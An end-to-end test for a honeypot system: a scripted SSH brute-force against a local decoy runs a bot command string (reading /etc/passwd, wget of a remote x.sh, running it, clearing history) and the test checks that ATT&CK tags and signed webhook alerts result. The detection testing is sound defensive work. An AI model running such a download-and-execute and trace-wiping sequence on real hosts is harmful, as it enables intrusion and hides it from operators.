// End to end, as deployed: a real ssh2 client attacks the SSH decoy (two wrong passwords, the weak
// one, then `uname -a; cat /etc/passwd; wget …; chmod +x x.sh; ./x.sh; history -c`); the ingester
// tails the decoy's event log into the database; the ttp worker tags the stored events; the
// webhook worker delivers ttp.tagged to a local receiver, which verifies the HMAC signature.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
import { privateData, startHost, waitFor } from './herd-harness.ts';
import { startTestDecky } from '../deckies/harness.ts';
import { createWebhook } from '../../src/db/webhooks/repo.ts';
import { listTagsSince } from '../../src/db/ttp/repo.ts';
import { verifyWebhook } from '../../src/notify/webhook-sign.ts';

const data = privateData('decnet-herd-e2e-');
after(() => data.cleanup());
const db = await data.db();

test('an SSH attack becomes ATT&CK tags with evidence and a signed webhook alert', async () => {
  const received: { headers: IncomingHttpHeaders; body: string }[] = [];
  const receiver = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({ headers: req.headers, body });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  const secret = 'e2e-receiver-secret-0123456789abcdef';
  await createWebhook(db, { name: 'soc', url: `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/alerts`, secret, topic_patterns: ['ttp.tagged'], allow_private: true });

  const d = await startTestDecky({ services: [{ name: 'ssh', config: { fail_delay_ms: '0' } }] });
  const fleet = await startHost('e2e', [
    { name: 'ingester', config: { logs: [d.eventLogPath], poll: 50 } },
    { name: 'ttp', config: { 'poll-interval': 0.5, 'anchor-wait': 0.5 } },
    { name: 'webhook' },
  ]);
  try {
    // Two wrong passwords, then the decoy's weak root password.
    await sshAttack({ host: d.ip, port: d.port('ssh') }, ['letmein', 'toor', 'admin'], BOT_COMMAND);

    const expected: [string, RegExp][] = [
      ['T1110', /login succeeded after 2 failed attempts/],
      ['T1078', /login succeeded after 2 failed attempts/],
      ['T1082', /^uname -a$/],
      ['T1105', /^wget http:\/\/198\.51\.100\.7\/x\.sh$/],
      ['T1070.003', /^history -c$/],
    ];
    const tags = await waitFor(async () => {
      const rows = await listTagsSince(db, {});
      const have = new Set(rows.map((r) => r.sub_technique_id ?? r.technique_id));
      return expected.every(([t]) => have.has(t)) && rows;
    }, 20_000, 'the expected techniques in ttp_tag');
    for (const [technique, evidence] of expected) {
      const found = tags.filter((t) => (t.sub_technique_id ?? t.technique_id) === technique);
      assert.equal(found.length, 1, technique);
      const e = found[0]!.evidence as { matched?: string; text: string; attacker_ip: string; service: string };
      assert.match(e.matched ?? e.text, evidence, technique);
      assert.equal(e.service, 'ssh');
      assert.equal(found[0]!.decky_id, d.name);
    }
    const history = tags.find((t) => t.sub_technique_id === 'T1070.003')!;
    assert.equal((history.evidence as { text: string }).text, BOT_COMMAND);
    for (const pw of ['letmein', 'toor', Buffer.from('admin').toString('base64')]) assert.ok(!JSON.stringify(tags).includes(pw), 'no secret in the evidence');

    // The receiver got signed ttp.tagged alerts covering every tag.
    const alerts = await waitFor(() => {
      const all = received.map((r) => ({ r, body: JSON.parse(r.body) as { topic: string; payload: { tag_uuids: string[]; techniques_added: string[] } } }));
      const uuids = new Set(all.flatMap((a) => a.body.payload.tag_uuids));
      return tags.every((t) => uuids.has(t.uuid)) && all;
    }, 10_000, 'the webhook alerts');
    for (const { r, body } of alerts) {
      assert.equal(body.topic, 'ttp.tagged');
      assert.ok(verifyWebhook(secret, r.headers['x-decnet-timestamp'] as string, r.body, r.headers['x-decnet-signature'] as string), 'the receiver verifies the signature');
    }
    assert.ok(alerts.some((a) => a.body.payload.techniques_added.includes('T1070.003')));
  } finally {
    await fleet.stop();
    await d.stop();
    receiver.closeAllConnections();
    await new Promise<void>((r) => receiver.close(() => r()));
  }
});
